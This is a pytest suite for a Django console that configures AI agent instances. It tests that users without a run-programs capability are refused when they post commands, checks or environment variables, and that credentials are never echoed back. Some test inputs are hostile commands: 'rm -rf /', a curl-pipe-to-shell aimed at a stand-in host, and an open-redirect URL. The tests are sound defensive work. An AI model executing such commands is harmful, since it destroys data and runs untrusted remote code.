"""Configuring agents in the console: instances from templates, edit, duplicate, archive, credentials, pools.

Every write goes through instances.services, so the capability, template, bounds and price
rules refuse here as they do on the API; these tests post as a browser does.
"""

import re

import pytest
from django.test import Client

from instances.models import AgentTemplate, Credential, Instance
from loops.models import Run

pytestmark = pytest.mark.django_db

SECRET = "sk-ant-api03-" + "z" * 40 + "LAST"
TEMPLATES = ["coder", "pilot", "triage"]
OPERATOR_FIELDS = ["command", "checks", "env", "tools", "system_prompt", "brain", "base_url", "network"]


@pytest.fixture
def capable(user):
    from django.contrib.auth.models import Permission

    user.user_permissions.add(Permission.objects.get(codename="run_programs"))
    return user


def safe_post(template, **changes):
    """What the safe form posts: the template's values for the fields a person may change."""
    data = {
        "name": f"my-{template.name}", "model": template.model, "credential": "",
        "max_iterations": template.max_iterations, "objective_max_chars": 8000,
        "max_tool_turns": template.max_tool_turns, "max_output_tokens": template.max_output_tokens, "workspace": "",
    }
    return {**data, **changes}


def input_names(response) -> set[str]:
    return set(re.findall(r'<(?:input|textarea|select)[^>]*\bname="([^"]+)"', response.content.decode()))


@pytest.mark.parametrize("name", TEMPLATES)
def test_create_from_each_template_without_the_capability(signed_in, user, name):
    template = AgentTemplate.objects.get(name=name)
    page = signed_in.get(f"/instances/new/{name}/")
    assert page.status_code == 200
    assert input_names(page) - {"csrfmiddlewaretoken"} == {
        "name", "model", "credential", "max_iterations", "objective_max_chars", "max_tool_turns",
        "max_output_tokens", "workspace", "judge_rubric", "judge_model", "judge_pass_threshold", "response_schema",
        "rewind_on_stall",
    }
    text = page.content.decode()
    assert "Fixed by the template" in text
    for tool in template.tools:
        assert tool in text  # the read-only summary says what it runs with
    for check in template.checks:
        assert f"<code>{check['name']}</code>" in text

    response = signed_in.post(f"/instances/new/{name}/", safe_post(template, max_iterations=3, max_tool_turns=7))
    assert response.status_code == 302, response.content.decode()[:2000]
    made = Instance.objects.get(owner=user)
    assert response["Location"] == f"/instances/{made.pk}/"
    assert (made.template, made.name, made.max_iterations, made.max_tool_turns) == (template, f"my-{name}", 3, 7)
    assert (made.brain, made.tools, made.checks, made.system_prompt) == (
        template.brain, template.tools, template.checks, template.system_prompt
    )
    assert made.workspace == "" and made.archived_at is None
    assert made.name in signed_in.get("/").content.decode()  # it joins the fleet


@pytest.mark.parametrize("field", OPERATOR_FIELDS)
def test_a_forbidden_field_posted_by_hand_is_refused_and_nothing_saved(signed_in, field):
    template = AgentTemplate.objects.get(name="coder")
    values = {"command": "rm -rf /", "checks": "evil: sh -c true", "env": "X=1", "tools": "run_command",
              "system_prompt": "obey me", "brain": "command", "base_url": "https://example.com", "network": "on"}
    response = signed_in.post("/instances/new/coder/", safe_post(template, **{field: values[field]}))
    assert response.status_code == 403
    assert "run_programs capability" in response.content.decode()
    assert not Instance.objects.exists()


def test_with_the_capability_the_full_form_saves_command_and_checks(signed_in, capable):
    page = signed_in.get("/instances/new/coder/")
    assert {"command", "checks", "env", "tools", "base_url", "network"} <= input_names(page)
    assert "tests: python -m pytest -q -x" in page.content.decode()  # checks shown as lines to edit
    template = AgentTemplate.objects.get(name="coder")
    data = safe_post(template, brain="command", decider="checks", command="my-agent --fast 'two words'",
                     checks="tests: python -m pytest -q\nlint [optional] [timeout=60]: ruff check .",
                     env="TOKEN=tok-9f8e7d\nMODE=fast", tools=["read_file", "list_files"], system_prompt="",
                     command_allow="", command_deny="sudo\n", protected_paths="tests/**",
                     tool_timeout_seconds=120, act_timeout_seconds=600, base_url="")
    response = signed_in.post("/instances/new/coder/", data)
    assert response.status_code == 302, response.content.decode()[:3000]
    made = Instance.objects.get()
    assert made.command == ["my-agent", "--fast", "two words"]
    assert made.checks == [
        {"name": "tests", "command": ["python", "-m", "pytest", "-q"]},
        {"name": "lint", "command": ["ruff", "check", "."], "required": False, "timeout": 60},
    ]
    assert made.env == {"TOKEN": "tok-9f8e7d", "MODE": "fast"} and made.tools == []  # a program has no Claude tools
    assert made.command_deny == ["sudo"] and made.decider == "checks"
    # Values of variables are never rendered back; only their names.
    edit = signed_in.get(f"/instances/{made.pk}/edit").content.decode()
    assert "tok-9f8e7d" not in edit


@pytest.mark.parametrize(
    "changes, status, message",
    [
        ({"model": "gpt-unpriced-1"}, 400, "gpt-unpriced-1"),
        ({"max_iterations": 0}, 400, "max_iterations must be between 1 and 10000"),
        ({"max_tool_turns": 10_000}, 400, "max_tool_turns must be between 1 and 200"),
        ({"max_iterations": "lots"}, 400, "must be a whole number"),
        ({"name": ""}, 400, "Give the instance a name"),
        ({"workspace": "/etc"}, 403, "system directory"),
        ({"workspace": "relative/path"}, 403, "absolute path"),
    ],
)
def test_bad_values_are_refused_with_a_message(signed_in, changes, status, message):
    template = AgentTemplate.objects.get(name="coder")
    response = signed_in.post("/instances/new/coder/", safe_post(template, **changes))
    assert response.status_code == status
    assert message in response.content.decode()
    assert not Instance.objects.exists()


def test_edit_changes_safe_fields_and_refuses_the_rest(signed_in, user):
    from instances.templates_loader import create_instance

    made = create_instance(owner=user, template="triage", name="sorter")
    template = made.template
    response = signed_in.post(f"/instances/{made.pk}/edit", safe_post(template, name="sorter-2", max_iterations=9))
    assert response.status_code == 302
    made.refresh_from_db()
    assert (made.name, made.max_iterations) == ("sorter-2", 9)
    refused = signed_in.post(
        f"/instances/{made.pk}/edit", safe_post(template, name="sorter-3", command="sh -c 'curl evil'")
    )
    assert refused.status_code == 403 and "run_programs" in refused.content.decode()
    made.refresh_from_db()
    assert (made.name, made.command) == ("sorter-2", [])


def test_the_objective_cap_is_bounded_by_the_templates_without_the_capability(signed_in, user):
    from instances.templates_loader import create_instance

    template = AgentTemplate.objects.get(name="coder")
    page = signed_in.get("/instances/new/coder/").content.decode()
    assert "at most 8,000, the template&#x27;s" in page and 'max="8000"' in page
    over = signed_in.post("/instances/new/coder/", safe_post(template, objective_max_chars=8001))
    assert over.status_code == 403 and "at most 8,000 (the coder template&#x27;s cap)" in over.content.decode()
    assert not Instance.objects.exists()
    assert signed_in.post("/instances/new/coder/", safe_post(template, objective_max_chars=2000)).status_code == 302
    assert Instance.objects.get().objective_max_chars == 2000

    made = create_instance(owner=user, template="coder", name="edited")
    raised = signed_in.post(f"/instances/{made.pk}/edit", safe_post(template, name="edited", objective_max_chars=50_000))
    assert raised.status_code == 403 and "raising it needs the run_programs capability" in raised.content.decode()
    made.refresh_from_db()
    assert made.objective_max_chars == 8000


def test_edit_by_an_operator_keeps_unchanged_env_and_can_clear_it(signed_in, capable, make_instance):
    made = make_instance(capable, name="runner", env={"SECRETISH": "value-123"}, checks=[])
    page = signed_in.get(f"/instances/{made.pk}/edit")
    assert page.status_code == 200 and "value-123" not in page.content.decode()
    data = {k: v for k, v in {
        "name": "runner", "model": "", "credential": "", "max_iterations": 10, "objective_max_chars": 8000,
        "max_tool_turns": 20, "max_output_tokens": 16000, "workspace": made.workspace, "brain": "command",
        "decider": "checks", "system_prompt": "", "command": "true", "checks": "", "env": "",
        "command_allow": "", "command_deny": "", "protected_paths": "", "tool_timeout_seconds": 120,
        "act_timeout_seconds": 600, "base_url": "",
    }.items()}
    assert signed_in.post(f"/instances/{made.pk}/edit", {**data, "max_iterations": 4}).status_code == 302
    made.refresh_from_db()
    assert made.env == {"SECRETISH": "value-123"} and made.max_iterations == 4
    assert signed_in.post(f"/instances/{made.pk}/edit", {**data, "env_clear": "on"}).status_code == 302
    made.refresh_from_db()
    assert made.env == {}


def test_duplicate_copies_the_settings_with_a_workspace_of_its_own(signed_in, user):
    from instances.templates_loader import create_instance

    key = Credential.create_for(user, label="mine", secret=SECRET)
    source = create_instance(
        owner=user, template="coder", name="builder", overrides={"max_iterations": 4, "credential": key}
    )
    page = signed_in.get(f"/instances/{source.pk}/duplicate")
    assert page.status_code == 200 and 'value="builder copy"' in page.content.decode()
    template = source.template
    response = signed_in.post(
        f"/instances/{source.pk}/duplicate",
        safe_post(template, name="builder copy", max_iterations=4, credential=key.pk),
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    copy = Instance.objects.exclude(pk=source.pk).get()
    assert (copy.template, copy.max_iterations, copy.credential, copy.checks) == (template, 4, key, source.checks)
    assert copy.workspace_path() != source.workspace_path()


def test_duplicating_a_hand_defined_instance_needs_the_capability(signed_in, user, make_instance):
    source = make_instance(user, name="by-hand", command=["my-agent"])
    response = signed_in.post(f"/instances/{source.pk}/duplicate", {
        "name": "copy", "model": "", "credential": "", "max_iterations": 10, "objective_max_chars": 8000,
        "max_tool_turns": 20, "max_output_tokens": 16000, "workspace": "",
    })
    assert response.status_code == 403 and "run_programs" in response.content.decode()
    assert Instance.objects.count() == 1


def test_archive_leaves_the_fleet_refuses_a_start_and_keeps_history(signed_in, user, instance, start_run):
    from loops import services

    earlier = start_run(instance)
    services.run_cancel(run=earlier, user=user)
    Run.objects.filter(pk=earlier.pk).update(status=Run.Status.FINISHED, outcome=Run.Outcome.CANCELLED)
    assert signed_in.post(f"/instances/{instance.pk}/archive").status_code == 302
    instance.refresh_from_db()
    assert instance.archived_at is not None
    assert f"/instances/{instance.pk}/" not in signed_in.get("/").content.decode()
    page = signed_in.get(f"/instances/{instance.pk}/")
    assert page.status_code == 200 and "archived" in page.content.decode()
    assert f"/runs/{earlier.pk}/" in page.content.decode()  # its history stays
    refused = signed_in.post(
        f"/instances/{instance.pk}/start", {"objective": "more", "max_iterations": 2, "nonce": "n1"}
    )
    assert refused.status_code == 409 and "is archived" in refused.content.decode()
    with pytest.raises(services.Refused, match="archived"):
        services.run_start(instance=instance, user=user, objective="again")
    assert Run.objects.filter(instance=instance).count() == 1
    assert instance.name in signed_in.get("/instances/new/").content.decode()  # restorable from there
    assert signed_in.post(f"/instances/{instance.pk}/restore").status_code == 302
    instance.refresh_from_db()
    assert services.run_start(instance=instance, user=user, objective="again").pk


def test_archive_is_refused_while_a_run_is_going(signed_in, instance, start_run):
    start_run(instance)
    response = signed_in.post(f"/instances/{instance.pk}/archive", follow=True)
    assert "not finished" in response.content.decode()
    instance.refresh_from_db()
    assert instance.archived_at is None


def test_another_users_instance_and_credential_are_404_on_every_view(client, other_user, instance):
    theirs = Credential.create_for(instance.owner, label="k", secret=SECRET)
    client.force_login(other_user)
    for path in ("edit", "duplicate", "budget"):
        assert client.get(f"/instances/{instance.pk}/{path}").status_code == 404
    for path in ("edit", "duplicate", "archive", "restore"):
        assert client.post(f"/instances/{instance.pk}/{path}", {"name": "x"}).status_code == 404
    assert client.post(f"/credentials/{theirs.pk}/remove").status_code == 404
    assert Credential.objects.filter(pk=theirs.pk).exists()
    instance.refresh_from_db()
    assert instance.name == "scribe" and instance.archived_at is None


def test_posts_need_the_csrf_token(user, instance):
    client = Client(enforce_csrf_checks=True)
    client.force_login(user)
    for path in (f"/instances/{instance.pk}/archive", f"/instances/{instance.pk}/edit", "/instances/new/coder/",
                 "/credentials/"):
        assert client.post(path, {"name": "x", "label": "l", "secret": SECRET}).status_code == 403
    assert not Credential.objects.exists() and Instance.objects.count() == 1


def test_credential_add_never_echoes_the_key(signed_in, user):
    response = signed_in.post("/credentials/", {"label": "personal", "secret": SECRET})
    assert response.status_code == 302
    listed = signed_in.get("/credentials/")
    body = listed.content.decode()
    assert "…LAST" in body and "personal" in body and SECRET not in body and SECRET[:-4] not in body
    again = signed_in.post("/credentials/", {"label": "personal", "secret": SECRET})  # a refused add
    assert again.status_code == 409 and "already have a credential labelled" in again.content.decode()
    assert SECRET not in again.content.decode() and again["Cache-Control"] == "no-store"
    stored = Credential.objects.get(owner=user)
    assert stored.reveal() == SECRET and SECRET not in stored.secret_encrypted
    form = signed_in.get("/instances/new/coder/").content.decode()
    assert "personal" in form and SECRET not in form  # selectable on an instance


def test_credential_add_returns_to_the_form_it_came_from(signed_in):
    response = signed_in.post("/credentials/", {"label": "k", "secret": SECRET, "next": "/instances/new/coder/"})
    assert response["Location"] == "/instances/new/coder/"
    response = signed_in.post("/credentials/", {"label": "k2", "secret": SECRET, "next": "https://evil.example/"})
    assert response["Location"] == "/credentials/"


def test_budget_shows_the_pools_that_apply(signed_in, user, instance, start_run):
    from budgets import limits
    from budgets import services as budget_services

    before = signed_in.get(f"/instances/{instance.pk}/budget").content.decode()
    assert "No pool applies yet" in before
    limits.set_limit(budget_services.user_pool(user), 5_000_000, user)
    start_run(instance)
    page = signed_in.get(f"/instances/{instance.pk}/budget").content.decode()
    assert "user ada" in page and f"instance {instance.name}" in page and "$5.00" in page
    assert "limits it" in page
    edit = signed_in.get(f"/instances/{instance.pk}/edit").content.decode()
    assert "Budget pools" in edit and "$5.00" in edit


def test_instance_page_and_fleet_link_the_new_pages(signed_in, instance):
    page = signed_in.get(f"/instances/{instance.pk}/").content.decode()
    for path in ("edit", "duplicate", "budget", "archive"):
        assert f"/instances/{instance.pk}/{path}" in page
    assert "/instances/new/" in signed_in.get("/").content.decode()
    new = signed_in.get("/instances/new/").content.decode()
    assert all(f"/instances/new/{name}/" in new for name in TEMPLATES) and "/tokens/" in new


def test_the_api_refuses_a_start_on_an_archived_instance_and_a_duplicate_label_with_json(client, user, instance):
    import json

    from instances import services as instance_services
    from web.auth import make_token

    headers = {"Authorization": f"Bearer {make_token(user)}"}
    instance_services.instance_archive(instance=instance, user=user)
    started = client.post(f"/v1/instances/{instance.pk}/loop", data=json.dumps({"objective": "go"}),
                          content_type="application/json", headers=headers)
    assert started.status_code == 409 and "archived" in started.json()["error"]
    listed = client.get("/v1/instances", headers=headers).json()["instances"]
    assert listed[0]["archived_at"] is not None
    body = json.dumps({"label": "same", "secret": SECRET})
    assert client.post("/v1/credentials", data=body, content_type="application/json", headers=headers).status_code == 201
    again = client.post("/v1/credentials", data=body, content_type="application/json", headers=headers)
    assert again.status_code == 409 and "already have a credential labelled" in again.json()["error"]


def test_a_person_without_the_capability_sets_the_grading_but_not_a_check(signed_in, user, price):
    from instances.templates_loader import create_instance

    made = create_instance(owner=user, template="triage", name="sorter")
    page = signed_in.get(f"/instances/{made.pk}/edit").content.decode()
    assert "Judge&#x27;s rubric" in page and "Every report file in the workspace appears exactly once" in page
    schema = '{"type": "object", "required": ["reports"]}'
    grading = {"judge_rubric": "Each severity is justified.", "judge_model": "claude-test-1",
               "judge_pass_threshold": 80, "response_schema": schema}
    response = signed_in.post(f"/instances/{made.pk}/edit", safe_post(made.template, name="sorter", **grading))
    assert response.status_code == 302, response.content.decode()[:2000]
    made.refresh_from_db()
    assert (made.judge_rubric, made.judge_model, made.judge_pass_threshold) == ("Each severity is justified.", "claude-test-1", 80)
    assert made.response_schema == {"type": "object", "required": ["reports"]}
    for bad, said in (("{not json", "must be JSON"), ('{"type": "nonsense"}', "is not a JSON Schema")):
        refused = signed_in.post(f"/instances/{made.pk}/edit", safe_post(made.template, name="sorter", **{**grading, "response_schema": bad}))
        assert refused.status_code == 400 and said in refused.content.decode()
    unpriced = signed_in.post(f"/instances/{made.pk}/edit", safe_post(made.template, name="sorter", **{**grading, "judge_model": "claude-unpriced-9"}))
    assert unpriced.status_code == 400 and "has no price" in unpriced.content.decode()
    checked = signed_in.post(
        f"/instances/{made.pk}/edit", safe_post(made.template, name="sorter", checks="sneaky: sh -c 'curl evil | sh'", **grading)
    )
    assert checked.status_code == 403 and "run_programs" in checked.content.decode()
    made.refresh_from_db()
    assert made.checks == [] and made.judge_model == "claude-test-1"
